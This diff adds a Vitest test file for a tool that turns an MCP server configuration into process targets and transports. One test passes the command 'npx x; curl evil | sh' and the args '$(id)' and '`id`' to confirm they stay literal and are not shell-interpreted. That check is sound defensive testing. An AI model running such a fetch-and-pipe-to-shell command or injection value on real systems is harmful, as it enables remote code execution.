@@ -1,0 +1,46 @@
+import { resolve } from 'node:path'
+import { expect, test } from 'vitest'
+import { settingsOf } from '../upstreams/config.ts'
+import { parseConfig } from './read.ts'
+import { targetOf } from './target.ts'
+import { upstreamOf } from './upstream.ts'
+
+function target(server: unknown) {
+  const { config } = parseConfig(JSON.stringify({ mcpServers: { a: server } }), { file: 'unfold.json', environment: {} })
+  const { a } = config.mcpServers
+  if (a === undefined) throw new Error('no server')
+  return targetOf(a, resolve('/etc/unfold'))
+}
+
+test('a command runs in the folder of the configuration unless it names another, seen from there', () => {
+  expect(target({ command: 'x' })).toEqual({ command: 'x', args: [], env: {}, cwd: resolve('/etc/unfold') })
+  expect(target({ command: 'x', cwd: 'sub' })).toMatchObject({ cwd: resolve('/etc/unfold/sub') })
+  expect(target({ command: 'x', cwd: '/srv' })).toMatchObject({ cwd: resolve('/srv') })
+})
+
+test('what looks like a shell’s work stays one word', () => {
+  expect(target({ command: 'npx x; curl evil | sh', args: ['$(id)', '`id`'] })).toMatchObject({
+    command: 'npx x; curl evil | sh',
+    args: ['$(id)', '`id`'],
+  })
+})
+
+test.each([
+  [undefined, 'auto'],
+  ['http', 'http'],
+  ['streamable-http', 'http'],
+  ['streamableHttp', 'http'],
+  ['sse', 'sse'],
+])('an address of type %s is reached by %s', (type, transport) => {
+  expect(target({ url: 'http://x/', ...(type !== undefined && { type }) })).toMatchObject({ transport, headers: {} })
+})
+
+test('what the configuration says of a server is what its upstream is made with, defaults included', () => {
+  const text = JSON.stringify({
+    mcpServers: { a: { url: 'http://x/', start: 'lazy', sweepMs: 0 }, b: { command: 'x', disabled: true } },
+  })
+  const { a, b } = parseConfig(text, { file: 'unfold.json', environment: {} }).config.mcpServers
+  if (a === undefined || b === undefined) throw new Error('no server')
+  expect(settingsOf(upstreamOf(a, '/'))).toEqual({ ...settingsOf({ target: { url: 'http://x/' } }), start: 'lazy', sweepMs: 0 })
+  expect(upstreamOf(b, '/').disabled).toBe(true)
+})
